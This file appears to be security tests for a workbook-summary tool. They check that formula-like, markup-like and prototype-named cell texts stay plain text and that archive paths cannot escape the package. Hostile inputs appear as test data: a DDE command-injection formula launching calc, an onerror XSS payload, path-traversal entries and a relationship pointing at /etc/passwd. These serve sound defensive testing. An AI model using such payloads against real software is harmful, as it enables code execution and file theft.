/** Texts of a workbook that look like formulas, markup, paths or names of JavaScript stay texts (SECURITY.md). */
import { readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { createExcelPort } from '../../src/excel';
import { readWorkbook } from '../../src/files';
import { HostWorkbook } from '../../src/host';
import { checkWorkbook, runSummary } from '../../src/jobs';
import type { Grid } from '../../src/sheet';
import { Folder, dataOf, executionTable, khopSo } from '../cli/fixtures';
import { xlsx } from '../files/package-fixture';
import { calculation, openInOffice } from '../host/client';

const FORMULA = '=HYPERLINK("https://example.com?"&A1,"Xem")';
const NAMES = [FORMULA, "=1+cmd|' /C calc'!A0", '@SUM(1+1)', '=-2+3'] as const;
const MARKUP = '<img src=x onerror=alert(1)>';

const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');

/** The usual table under other names of its four lines; the third one's figure does not agree. */
function workbook(names: readonly string[], sheet = 'Thực hiện 2018'): Uint8Array {
  const lines = executionTable(1_350).map((line, row) => {
    const name = names[row - 4];
    return name === undefined ? line : [line[0]!, escaped(name), ...line.slice(2)];
  });
  return xlsx([{ name: escaped(sheet), data: dataOf(lines) }]);
}

const gridOf = (bytes: Uint8Array): Grid => readWorkbook('a.xlsx', bytes).grids[0]!;

/** Every cell of a sheet whose text is one of the names, and the formula that it was given. */
function cellsNamed(grid: Grid, names: readonly string[]): { text: string; formula: string | undefined }[] {
  const found: { text: string; formula: string | undefined }[] = [];
  grid.eachCell((row, column) => {
    const text = grid.text(row, column);
    if (names.includes(text)) found.push({ text, formula: grid.formula(row, column) });
  });
  return found;
}

describe('a name that looks like a formula', () => {
  const folder = new Folder();
  afterAll(() => folder.remove());

  test('is a text in the summary that the command line writes', async () => {
    const source = folder.file('a.xlsx', workbook(NAMES));
    const { status, told } = await khopSo('summarize', source, '-o', folder.in('b.xlsx'));
    expect([status, told]).toEqual([0, expect.any(String)]);
    const summary = readWorkbook('b.xlsx', readFileSync(folder.in('b.xlsx'))).grids.at(-1)!;
    const cells = cellsNamed(summary, NAMES);
    expect(new Set(cells.map(({ text }) => text))).toEqual(new Set(NAMES));
    expect(cells.map(({ formula }) => formula)).toEqual(cells.map(() => undefined));
  });

  test('is a text in the summary that Excel is given', async () => {
    const host = HostWorkbook.fromGrids([gridOf(workbook(NAMES))], { calculation: await calculation() });
    openInOffice(host);
    const { sheet } = await runSummary(createExcelPort());
    const written = (await createExcelPort().readGrids('all')).find((grid) => grid.sheet === sheet)!;
    const cells = cellsNamed(written, NAMES);
    expect(new Set(cells.map(({ text }) => text))).toEqual(new Set(NAMES));
    expect(cells.map(({ formula }) => formula)).toEqual(cells.map(() => undefined));
  });
});

describe('a name that looks like markup', () => {
  const folder = new Folder();
  afterAll(() => folder.remove());

  test('is shown as it is on the page of a folder', async () => {
    folder.file('a.xlsx', workbook(['Đào tạo', MARKUP, MARKUP], MARKUP.slice(0, 28)));
    await khopSo('check', folder.path, '--html', folder.in('page.html'));
    const page = readFileSync(folder.in('page.html'), 'utf8');
    expect(page).toContain('&#60;img src=x onerror=alert(1)');
    expect(page).not.toContain('<img');
    expect(page).not.toContain('<script');
  });

  test('is never handed to the page as markup, nor as a program', () => {
    const sources = readdirSync('src', { recursive: true, encoding: 'utf8' }).filter((file) =>
      /\.(tsx?|js)$/.test(file),
    );
    const way =
      /dangerouslySetInnerHTML|\.(inner|outer)HTML\b|insertAdjacentHTML|document\.write|\beval\(|new Function\(/;
    expect(sources.filter((file) => way.test(readFileSync(path.join('src', file), 'utf8')))).toEqual([]);
  });
});

describe('names of JavaScript and of other files', () => {
  const names = ['__proto__', 'constructor', 'hasOwnProperty', 'toString'];

  test('are names of lines and sheets like others', () => {
    const found = (bytes: Uint8Array): string[] =>
      checkWorkbook([gridOf(bytes)]).findings.map(({ rule, severity, cell }) => `${rule} ${severity} ${String(cell)}`);
    const usual = found(workbook(['Đào tạo', 'Sản xuất', 'Hội chợ', 'Tư vấn']));
    expect(usual.length).toBeGreaterThan(0);
    expect(found(workbook(names, '__proto__'))).toEqual(usual);
    expect(Object.keys(Object.prototype)).toEqual([]);
  });

  test('are parts of a package that nobody asks for, wherever they lead', () => {
    const folder = new Folder();
    const extra = { '../../outside.txt': 'x', '/etc/outside.txt': 'x', '..\\outside.txt': 'x', __proto__x: 'x' };
    const bytes = xlsx([{ name: 'Biểu', data: dataOf(executionTable()) }], { extra });
    expect(readWorkbook(folder.in('a.xlsx'), bytes).grids).toHaveLength(1);
    expect(folder.names()).toEqual([]);
    folder.remove();
  });

  test('a sheet whose part leads out of the package is damaged, and no file is read', () => {
    const bytes = xlsx([{ name: 'Biểu', data: '' }], {
      extra: {
        'xl/_rels/workbook.xml.rels':
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" ' +
          'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="../../../../../etc/passwd"/></Relationships>',
      },
    });
    expect(() => readWorkbook('a.xlsx', bytes)).toThrow(expect.objectContaining({ code: 'damaged' }));
  });
});
